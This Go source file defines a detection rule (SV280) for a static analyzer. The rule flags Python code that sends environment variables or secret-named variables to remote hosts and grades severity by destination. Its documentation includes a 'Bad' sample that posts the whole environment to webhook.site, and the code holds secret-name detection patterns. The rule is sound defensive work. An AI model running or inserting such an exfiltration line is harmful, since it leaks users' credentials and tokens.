package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonEnvExfiltration reports environment variables sent over the
// network.
var PythonEnvExfiltration = register(&analyzer.Rule{
	ID:       "SV280",
	Name:     "python-env-exfiltration",
	Title:    "Python sends the environment or a secret from it over the network",
	Severity: Critical,
	Category: analyzer.CatCredentials,
	Tags:     []string{"security", "python", "exfiltration", "CWE-200", "CWE-522"},
	Inputs:   analyzer.InPython,
	Doc: `Python code sends environment variables to a remote host. The environment of an
agent holds API keys, cloud credentials and tokens, so dumping it is credential
harvesting in one line.

- **critical** — the whole environment (` + "`os.environ`" + `, ` + "`dict(os.environ)`" + `,
  ` + "`os.environ.items()`" + `, ` + "`{**os.environ}`" + `, ` + "`dotenv_values()`" + `, iteration over it) reaches a
  network call: ` + "`requests`" + `/` + "`httpx`" + ` bodies, params and headers, ` + "`urllib.request.urlopen`" + `
  data, ` + "`http.client`" + `, ` + "`socket.send`" + `, ` + "`smtplib`" + `, ` + "`ftplib`" + `;
- **high** — a named secret (` + "`*_KEY`" + `, ` + "`*TOKEN*`" + `, ` + "`*SECRET*`" + `, passwords) sent to a
  paste site, request catcher, tunnel, file drop or raw IP address;
- **medium** — a named secret sent in the body or URL to a host that is not a known API.

A key named after one vendor sent to another vendor's API (` + "`OPENAI_API_KEY`" + ` to
` + "`api.anthropic.com`" + `) is **medium**. One named key sent as a header to a constant, known API host (` + "`OPENAI_API_KEY`" + ` to
` + "`api.openai.com`" + `) is how API clients work and is not reported; neither is any host in the
configured allowlist. Data flow is followed through assignments, dictionaries and
loops in the same file.

**Fix:** send only the variable the API needs, to that API, in its auth header.

Bad:

` + "```python" + `
import os, requests
requests.post("https://webhook.site/abc", json=dict(os.environ))
` + "```" + `

Good:

` + "```python" + `
import os, requests
requests.post("https://api.openai.com/v1/responses",
              headers={"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}, json=body)
` + "```",
	Run: runPythonEnvExfiltration,
})

var pySecretNameRx = match.MustRx(`(?i)(key|token|secret|passw|pwd|credential|auth|session|cookie|private)`)

// isWholeEnv matches references to the whole environment.
func isWholeEnv(r python.Ref) bool {
	switch r.Name {
	case "os.environ", "os.environb", "posix.environ":
		return !r.HasKey && !r.Call
	case "os.environ.copy", "os.environ.items", "os.environ.keys", "os.environ.values", "os.environ.__dict__",
		"dotenv.dotenv_values", "os.environ._data":
		return true
	}
	return false
}

// envKey returns the variable name of a single-variable environment read.
func envKey(m *python.Module, r python.Ref) (string, bool) {
	switch {
	case (r.Name == "os.environ" || r.Name == "os.environb") && r.HasKey:
		return r.Key, true
	case r.Call && (r.Name == "os.getenv" || r.Name == "os.environ.get" || r.Name == "os.environ.pop"):
		if c := m.CallOf(r); c != nil {
			if a, ok := c.Arg(0, "key"); ok {
				if k, ok := m.Fold(a.Start, a.End); ok {
					return k, true
				}
			}
		}
		return "?", true
	}
	return "", false
}

func runPythonEnvExfiltration(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	for _, c := range m.Calls {
		if !pyfacts.NetSink(m, c) || len(c.Args) == 0 {
			continue
		}
		start, end := m.Span(c)
		host, class := "", intel.HostUnknown
		if u := pyfacts.SinkURL(m, c); u != "" {
			host, class = intel.URLClass(u)
		}
		dest := "the network"
		if host != "" {
			dest = host
			if class != intel.HostUnknown {
				dest += " (" + class.String() + ")"
			}
		}
		reported := false
		for _, a := range c.Args {
			if r, ok := m.Derives("wholeenv", a.Start, a.End, isWholeEnv); ok {
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
					Message: "sends the whole environment (" + r.Name + ") to " + dest})
				reported = true
				break
			}
		}
		if reported {
			continue
		}
		trusted := class == intel.HostKnownAPI || class == intel.HostLoopback || class == intel.HostPrivate || p.Config.HostAllowed(host)
		for _, a := range c.Args {
			r, ok := m.Derives("envkey", a.Start, a.End, func(r python.Ref) bool {
				k, ok := envKey(m, r)
				return ok && (k == "?" || pySecretNameRx.MatchString(k))
			})
			if !ok {
				continue
			}
			key, _ := envKey(m, r)
			vendor := intel.KeyVendorDomain(key)
			switch {
			case class.Suspicious():
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: High,
					Message: "sends environment secret " + key + " to " + dest})
			case class == intel.HostKnownAPI && vendor != "" && !intel.HostInDomain(host, vendor) && !p.Config.HostAllowed(host):
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Medium,
					Message: "sends " + key + " to " + host + ", not to " + vendor})
			case trusted || a.Keyword == "headers" || a.Keyword == "auth" || strings.HasSuffix(c.Name, ".putheader"):
				continue
			default:
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end, Severity: Medium,
					Message: "sends environment secret " + key + " in the request to " + dest})
			}
			break
		}
	}
	return nil
}
